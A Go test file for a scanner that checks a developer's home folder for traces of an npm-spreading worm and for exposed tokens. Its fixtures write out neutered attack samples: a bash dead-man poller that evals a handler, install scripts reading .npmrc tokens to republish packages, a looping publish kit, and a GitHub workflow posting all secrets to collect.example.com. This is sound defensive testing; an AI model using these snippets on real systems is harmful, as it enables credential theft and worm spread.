package checkup_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"wormbell/internal/checkup"
	"wormbell/internal/doctor"
)

var update = flag.Bool("update", false, "write the golden files anew")

// site is the token service of the tests; nothing is ever sent there.
const site = "tokens.example.com"

// machine is a home in a temporary folder, with a system around it in which
// nothing runs.
type machine struct {
	t      *testing.T
	root   string
	home   string
	config checkup.Config
}

func newMachine(t *testing.T) *machine {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	m := &machine{t: t, root: root, home: filepath.Join(root, "home/dev")}
	for _, dir := range []string{"home/dev", "proc/self/net", "usr/bin", "tmp", "var/tmp", "dev/shm", "bin"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"sh", "bash", "python3", "node", "curl", "env", "restic", "git", "["} {
		m.write("/usr/bin/"+name, "\x7fELF\x00 a program of the system's")
	}
	m.write("/bin/bash", "\x7fELF\x00 a program of the system's")
	m.write("/proc/stat", fmt.Sprintf("btime %d\n", time.Now().Add(-10*time.Minute).Unix()))
	// Where npm lies beside what it is called by.
	m.write("/bin/npm", "")
	m.write("/bin/node_modules/npm/package.json", `{"name":"npm","version":"11.19.1"}`)
	m.config = checkup.Config{Home: m.home, Root: root, Sites: []string{site}, Getenv: func(key string) string {
		if key == "PATH" {
			return filepath.Join(root, "bin")
		}
		return ""
	}, Run: func(_ context.Context, _ []byte, name string, args ...string) ([]byte, error) {
		switch strings.Join(append([]string{name}, args...), " ") {
		case "crontab -l":
			return nil, errors.New("no crontab for dev")
		}
		return nil, fmt.Errorf("run %q: %w", name, exec.ErrNotFound)
	}, Agent: doctor.Machine{Now: time.Now(), Err: errors.New("no agent is running")}}
	return m
}

// path is where a file of the machine lies: with ~, or absolute.
func (m *machine) path(p string) string {
	if rest, ok := strings.CutPrefix(p, "~/"); ok {
		return filepath.Join(m.home, rest)
	}
	return filepath.Join(m.root, p)
}

func (m *machine) write(p, text string) {
	m.t.Helper()
	p = m.path(p)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		m.t.Fatal(err)
	}
}

// enabled is a unit that starts with the session.
func (m *machine) enabled(name, text string) {
	m.t.Helper()
	m.write("~/.config/systemd/user/"+name, text)
	link := m.path("~/.config/systemd/user/default.target.wants/" + name)
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		m.t.Fatal(err)
	}
	if err := os.Symlink("../"+name, link); err != nil {
		m.t.Fatal(err)
	}
}

func (m *machine) run() checkup.Report {
	m.t.Helper()
	r, err := checkup.Run(m.t.Context(), m.config)
	if err != nil {
		m.t.Fatal(err)
	}
	return r
}

// signs are the findings of a level, as "kind where".
func found(r checkup.Report, level checkup.Level) (out []string) {
	for _, s := range r.Sections {
		for _, f := range s.Findings {
			if f.Level == level {
				out = append(out, f.Kind+" "+f.Where+": "+f.What)
			}
		}
	}
	return out
}

func has(list []string, prefix string) bool {
	return slices.ContainsFunc(list, func(s string) bool { return strings.HasPrefix(s, prefix) })
}

func unit(exec string) string {
	return "[Unit]\nDescription=x\n[Service]\nExecStart=" + exec + "\nRestart=always\n[Install]\nWantedBy=default.target\n"
}

// poller asks every minute, and runs its handler when the answer is 40x. It ends
// in its first line and is never run.
const poller = "#!/bin/bash\nexit 0\nD=\"$HOME/.config/some-monitor\"\nT=$(cat \"$D/token\")\nH=$(cat \"$D/handler\")\nwhile true; do\n" +
	"  C=$(curl -s -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $T\" https://" + site + "/user)\n" +
	"  if [[ \"$C\" =~ ^40[0-9]$ ]]; then eval \"$H\"; exit 0; fi\n  sleep 60\ndone\n"

// lock is npm's hidden lockfile of a project with one package that has scripts.
func lock(name string) string {
	return `{
  "name": "app",
  "lockfileVersion": 3,
  "packages": {
    "node_modules/left-pad": {
      "version": "1.0.0"
    },
    "node_modules/` + name + `": {
      "version": "1.0.3",
      "hasInstallScript": true
    }
  }
}`
}

func project(m *machine, dir, pkg, scripts string, files map[string]string) {
	m.write(dir+"/package.json", `{"name":"app","private":true}`)
	m.write(dir+"/node_modules/.package-lock.json", lock(pkg))
	m.write(dir+"/node_modules/"+pkg+"/package.json", `{"name":"`+pkg+`","version":"1.0.3","scripts":`+scripts+`}`)
	for name, text := range files {
		m.write(dir+"/node_modules/"+pkg+"/"+name, text)
	}
}

func publishLog(name, dir, argument string) string {
	return "0 verbose cli /usr/bin/node /usr/bin/npm\n7 verbose title npm publish\n8 verbose argv \"publish\"" + argument + "\n20 notice name: " + name +
		"\n21 notice version: 1.0.0\n31 http fetch PUT 201 http://registry.example.com/" + name + " 3ms\n32 verbose cwd " + dir + "\n36 verbose exit 0\n"
}

const kit = `const fs = require('fs'), { execSync } = require('child_process')
process.exit(0)
const words = ['rendang', 'tapai', 'sate']
while (true) {
  const p = JSON.parse(fs.readFileSync('package.json'))
  delete p.private
  p.name = words[Math.floor(Math.random() * 3)] + Math.random()
  fs.writeFileSync('package.json', JSON.stringify(p))
  execSync('npm publish --access public')
}
`

// worms are the traces of them, each alone.
var worms = []struct {
	name, kind string
	plant      func(m *machine)
}{
	{"a unit that polls", "autostart ~/.config/systemd/user/gpg-helper.service", func(m *machine) {
		m.write("~/.local/bin/gpg-helper.sh", poller)
		m.enabled("gpg-helper.service", unit("/bin/bash %h/.local/bin/gpg-helper.sh"))
	}},
	{"a shell file that switches off", "autostart ~/.bashrc", func(m *machine) { m.write("~/.bashrc", "alias ll='ls -l'\nsudo shutdown -h 0\n") }},
	{"a token beside its handler", "dead-man ~/.config/some-monitor", func(m *machine) {
		m.write("~/.config/some-monitor/token", "decoy")
		m.write("~/.config/some-monitor/handler", "true")
	}},
	{"a scanner in a hidden folder", "loot ~/.some-cache/trufflehog", func(m *machine) { m.write("~/.some-cache/trufflehog", "\x7fELF") }},
	{"a list of credentials", "loot /tmp/inventory.txt", func(m *machine) {
		m.write("/tmp/inventory.txt", "/home/dev/.npmrc\n/home/dev/.ssh/id_ed25519\n/home/dev/.aws/credentials\n/home/dev/.config/gh/hosts.yml\n/home/dev/notes.txt\n")
	}},
	{"a package packed anew", "repacked /tmp/npm-update-x1:", func(m *machine) {
		m.write("/tmp/npm-update-x1/package.tar", "")
		m.write("/tmp/npm-update-x1/updated.tgz", "")
	}},
	{"one folder under many names", "publish-loop ~/.npm/_logs, folder ~/farm", func(m *machine) {
		for i, name := range []string{"zul-tapai9-kyuki", "andi-rendang7-breki", "bella-tempe53-sumpek"} {
			m.write(fmt.Sprintf("~/.npm/_logs/2026-11-21T21_32_5%d_450Z-debug-0.log", i), publishLog(name, m.home+"/farm", ""))
		}
	}},
	{"packages out of /tmp", "publish-loop ~/.npm/_logs", func(m *machine) {
		for i, name := range []string{"a-tool", "b-tool", "c-tool"} {
			m.write(fmt.Sprintf("~/.npm/_logs/2026-11-21T21_32_5%d_450Z-debug-0.log", i), publishLog(name, m.home, ` "/tmp/npm-update-`+name+`/updated.tgz"`))
		}
	}},
	{"a package that fetches bun and spreads", "package ~/work/app/node_modules/colours", func(m *machine) {
		project(m, "~/work/app", "colours", `{"preinstall":"node setup.js"}`, map[string]string{
			"setup.js":       "process.exit(0)\nfetch('https://bun.sh/install')\nspawn('bun', ['environment.js'], {detached: true})\n",
			"environment.js": "process.exit(0)\nreadFileSync(home + '/.npmrc'); process.env.NPM_TOKEN; exec('npm publish'); post('/user/repos')\n" + strings.Repeat("//\n", 1000),
		})
	}},
	{"a package with hidden code", "package ~/work/app/node_modules/colours", func(m *machine) {
		project(m, "~/work/app", "colours", `{"postinstall":"node index.js"}`, map[string]string{
			"index.js": "process.exit(0)\n" + strings.Repeat("_0x4f2a1b(_0x12ab34);\n", 300) + "'trufflehog'\n"})
	}},
	{"the same where no list is kept", "package ~/work/app/node_modules/@acme/colours", func(m *machine) {
		project(m, "~/work/app", "@acme/colours", `{"install":"node index.js"}`, map[string]string{
			"index.js": "process.exit(0)\n.npmrc _authToken npm publish trufflehog"})
		if err := os.Remove(m.path("~/work/app/node_modules/.package-lock.json")); err != nil {
			m.t.Fatal(err)
		}
	}},
	{"a kit that farms", "kit ~/farm/auto.js", func(m *machine) {
		m.write("~/farm/package.json", `{"name":"x"}`)
		m.write("~/farm/auto.js", kit)
		m.write("~/farm/tea.yaml", "version: 1.0.0\n")
	}},
	{"a workflow that sends secrets", "workflow ~/work/app/.github/workflows/format.yml", func(m *machine) {
		m.write("~/work/app/.github/workflows/format.yml", "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d \"$CONTENTS\" https://collect.example.com/x\n        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n")
	}},
	{"a workflow that takes commands", "workflow ~/work/app/.github/workflows/discussion.yaml", func(m *machine) {
		m.write("~/work/app/.github/workflows/discussion.yaml", "on:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - name: Handle\n        run: echo ${{ github.event.discussion.body }}\n")
	}},
}

func TestWorms(t *testing.T) {
	t.Parallel()
	for _, w := range worms {
		t.Run(w.name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			w.plant(m)
			r := m.run()
			if signs := found(r, checkup.Sign); !has(signs, w.kind) {
				t.Errorf("no sign %q, but %q\nrisks %q\nnotes %q", w.kind, signs, found(r, checkup.Risk), found(r, checkup.Note))
			}
			if r.State != checkup.Signs || !strings.Contains(r.Verdict, "sign") || strings.Contains(r.Verdict, "No sign") || !strings.HasPrefix(r.First, "Go offline") {
				t.Errorf("the verdict is %q (%s), first %q", r.Verdict, r.State, r.First)
			}
		})
	}
}

func TestInnocent(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	innocent(m)
	r := m.run()
	if signs := found(r, checkup.Sign); len(signs) > 0 {
		t.Errorf("signs of a worm in an honest home: %q", signs)
	}
	// The one thing that is wrong with it is that nobody guards it.
	// And a scanner is for its owner to know of.
	if risks := found(r, checkup.Risk); len(risks) != 2 || !has(risks, "agent ") || !has(risks, "loot ~/.bin/trufflehog") {
		t.Errorf("risks in an honest home: %q", risks)
	}
	if r.State != checkup.NoSign || !strings.HasPrefix(r.Verdict, "No sign of a worm was found") {
		t.Errorf("the verdict is %q (%s)", r.Verdict, r.State)
	}
	for _, s := range r.Sections {
		if s.Looked == "" || len(s.NotLooked) > 0 && s.ID != "autostart" {
			t.Errorf("section %s looked at %q, and not at %q", s.ID, s.Looked, s.NotLooked)
		}
	}
}

// decoys are tokens that are valid by their format and checksum, made in memory.
type decoys struct {
	rng *rand.Rand
	all []string
}

func (d *decoys) keep(s string) string {
	d.all = append(d.all, s)
	return s
}

func (d *decoys) text(n int, alphabet string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[d.rng.IntN(len(alphabet))]
	}
	return string(b)
}

const base62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"

// summed is a token of npm's or GitHub's: its last six characters are a checksum.
func (d *decoys) summed(prefix string) string {
	body := d.text(30, base62)
	sum, tail := crc32.ChecksumIEEE([]byte(body)), [6]byte{}
	for i := 5; i >= 0; i-- {
		tail[i] = base62[sum%62]
		sum /= 62
	}
	return d.keep(prefix + body + string(tail[:]))
}

func (d *decoys) random(prefix string, n int) string { return d.keep(prefix + d.text(n, base62)) }

// careless is a home in which secrets lie wherever they can.
func careless(m *machine, d *decoys) {
	m.write("~/.npmrc", "//registry.example.com/:_authToken="+d.summed("npm_")+"\n//old.example.com/:_password="+d.random("", 24)+"\n")
	m.write("~/.config/gh/hosts.yml", "github.com:\n    user: dev\n    oauth_token: "+d.summed("gho_")+"\n")
	m.write("~/.aws/credentials", "[default]\naws_access_key_id = "+d.keep("AKIA"+d.text(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"))+"\naws_secret_access_key = "+d.random("", 40)+"\n")
	m.write("~/.git-credentials", "https://dev:"+d.random("", 30)+"@git.example.com\n")
	m.write("~/.netrc", "machine git.example.com login dev password "+d.random("", 20)+"\n")
	m.write("~/.pypirc", "[pypi]\nusername = __token__\npassword = "+d.random("pypi-AgEIcHlwaS5vcmc", 80)+"\n")
	m.write("~/.docker/config.json", `{"auths":{"docker.example.com":{"auth":"`+d.random("", 40)+`"}}}`)
	m.write("~/.vault-token", d.random("hvs.", 95))
	m.write("~/.config/pnpm/rc", "//pnpm.example.com/:_authToken="+d.summed("npm_")+"\n")
	m.write("~/.yarnrc.yml", "npmAuthToken: "+d.summed("npm_")+"\n")
	m.write("~/.bunfig.toml", "[install.registry]\nurl = \"https://registry.example.com\"\ntoken = \""+d.summed("npm_")+"\"\n")
	m.write("~/.bash_history", "ls\nnpm config set //registry.example.com/:_authToken "+d.summed("npm_")+"\ncurl -H 'Authorization: token "+d.summed("ghp_")+"' https://git.example.com\n")
	m.write("~/.zsh_history", ": 1732220000:0;export NPM_TOKEN="+d.summed("npm_")+"\n")
	m.write("~/.local/share/fish/fish_history", "- cmd: gh auth login --with-token "+d.summed("ghp_")+"\n  when: 1732220000\n")
	m.write("~/.zshrc", "export GITHUB_TOKEN="+d.summed("ghp_")+"\nexport STRIPE_KEY="+d.random("sk_live_", 40)+"\n")
	m.write("~/.config/environment.d/10-t.conf", "NPM_TOKEN="+d.summed("npm_")+"\n")
	m.write("~/work/api/.npmrc", "//registry.example.com/:_authToken="+d.summed("npm_")+"\n")
	m.write("~/work/api/.git/index", "DIRC\x00\x00\x00\x02\x00\x00\x00\x01"+strings.Repeat("\x00", 62)+".npmrc\x00")
	m.write("~/work/api/package.json", `{"name":"api"}`)
	m.write("~/work/api/.env", "NPM_TOKEN="+d.summed("npm_")+"\nDB_PASSWORD="+d.random("", 20)+"\n")
	m.write("~/work/web/.env.local", "DB_PASSWORD="+d.random("", 20)+"\n")
	m.write("~/work/web/.yarnrc.yml", "enableScripts: true\nnpmAuthToken: "+d.summed("npm_")+"\n")
	m.write("~/work/web/.git/HEAD", "ref: refs/heads/main\n")
	m.write("~/work/web/.gitignore", "node_modules\n.yarnrc.yml\n")
	m.write("~/work/lib/bunfig.toml", "[install.registry]\nurl = \"x\"\ntoken = \""+d.summed("npm_")+"\"\n")
	m.write("~/work/lib/.git/HEAD", "ref: refs/heads/main\n")
	m.write("~/work/all/pnpm-workspace.yaml", "dangerouslyAllowAllBuilds: true\n")
	// In names, too: whoever writes those, nothing of them is shown.
	m.write("~/work/"+d.summed("ghp_")+"/.github/workflows/x.yml", worms[12].name)
	m.write("~/work/"+d.all[len(d.all)-1]+"/package.json", `{"name":"`+d.summed("npm_")+`"}`)
	m.write("~/work/"+d.all[len(d.all)-2]+"/auto.js", kit)
	m.write("~/.npm/_logs/x-debug-0.log", publishLog(d.summed("npm_"), "/tmp/"+d.all[len(d.all)-1], ""))
	m.write("~/.npm/_logs/y-debug-0.log", publishLog(d.summed("npm_"), "/tmp/"+d.all[len(d.all)-1], ""))
	m.write("~/.npm/_logs/z-debug-0.log", publishLog(d.summed("npm_"), "/tmp/"+d.all[len(d.all)-1], ""))
	m.write("~/.local/bin/m.sh", strings.Replace(poller, "$(cat \"$D/token\")", d.summed("ghp_"), 1))
	m.enabled("m.service", unit("/bin/bash %h/.local/bin/m.sh --token "+d.summed("ghp_")))
	for _, p := range []string{"~/.netrc", "~/work/api/.env"} {
		if err := os.Chmod(m.path(p), 0o644); err != nil {
			m.t.Fatal(err)
		}
	}
}

// leaks returns the decoys of which eight characters or more stand in text.
func (d *decoys) leaks(text string) (out []string) {
	const part = 8
	for _, token := range d.all {
		for i := 0; i+part <= len(token); i++ {
			if p := token[i : i+part]; strings.Contains(text, p) && !strings.Contains("pypi-AgEIcHlwaS5vcmc", p) {
				out = append(out, fmt.Sprintf("token %d, from %d", slices.Index(d.all, token), i))
				break
			}
		}
	}
	return out
}

func TestSecrets(t *testing.T) {
	t.Parallel()
	m, d := newMachine(t), &decoys{rng: rand.New(rand.NewPCG(1, 2))}
	careless(m, d)
	r := m.run()
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	if leaks := d.leaks(string(b)); len(leaks) > 0 {
		t.Errorf("the report holds secrets: %q", leaks)
	}
	risks := found(r, checkup.Risk)
	for _, want := range []string{
		"token ~/.npmrc: npm token", "token ~/.config/gh/hosts.yml: GitHub", "token ~/.aws/credentials: AWS", "token ~/.pypirc", "token ~/.vault-token", "token ~/.config/pnpm/rc",
		"history ~/.bash_history, line 2: npm access token", "history ~/.bash_history, line 3: GitHub token", "history ~/.zsh_history, line 1", "history ~/.local/share/fish/fish_history, line 1",
		"exported ~/.zshrc, line 1: GitHub token in variable GITHUB_TOKEN", "exported ~/.zshrc, line 2", "exported ~/.config/environment.d/10-t.conf, line 1",
		"env ~/work/api/.env: npm access token", "mode ~/.netrc, mode 0644", "mode ~/work/api/.env, mode 0644",
		"project-token ~/work/api/.npmrc: A token stands in a project's settings, and git tracks the file",
		"project-token ~/work/web/.yarnrc.yml: A token stands in a project's settings, which git ignores",
		"project-token ~/work/lib/bunfig.toml: A token stands in a project's settings, and nothing keeps it from being committed",
		"project-scripts ~/work/web/.yarnrc.yml", "project-scripts ~/work/all/pnpm-workspace.yaml", "install-scripts : npm 11.19.1 runs the install scripts of every package",
	} {
		if !has(risks, want) {
			t.Errorf("no risk %q", want)
		}
	}
	for _, want := range []string{"env ~/work/web/.env.local", "store ~/.netrc: Passwords in netrc", "store ~/.docker/config.json"} {
		if notes := found(r, checkup.Note); !has(notes, want) {
			t.Errorf("no note %q, but %q", want, notes)
		}
	}
	if t.Failed() {
		t.Logf("risks:\n%s", strings.Join(risks, "\n"))
	}
	if n := len(d.all); n < 30 {
		t.Errorf("only %d decoys were planted", n)
	}
}

// TestJSON holds what programs may rely on.
func TestJSON(t *testing.T) {
	t.Parallel()
	m, d := newMachine(t), &decoys{rng: rand.New(rand.NewPCG(3, 4))}
	m.write("~/.npmrc", "//registry.example.com/:_authToken="+d.summed("npm_")+"\n")
	m.write("~/.bash_history", "npm config set x "+d.summed("npm_")+"\n")
	m.write("~/.local/bin/gpg-helper.sh", poller)
	m.enabled("gpg-helper.service", unit("/bin/bash %h/.local/bin/gpg-helper.sh"))
	if err := os.Symlink("/etc/hostname", m.path("~/.zsh_history")); err != nil {
		t.Fatal(err)
	}
	r := m.run()
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	b = append(bytes.ReplaceAll(b, []byte(m.root), nil), '\n')
	const golden = "testdata/report.json"
	if *update {
		if err := os.WriteFile(golden, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b, want) {
		t.Errorf("the report is now\n%s", b)
	}
}

func newRand() *rand.Rand { return rand.New(rand.NewPCG(5, 6)) }
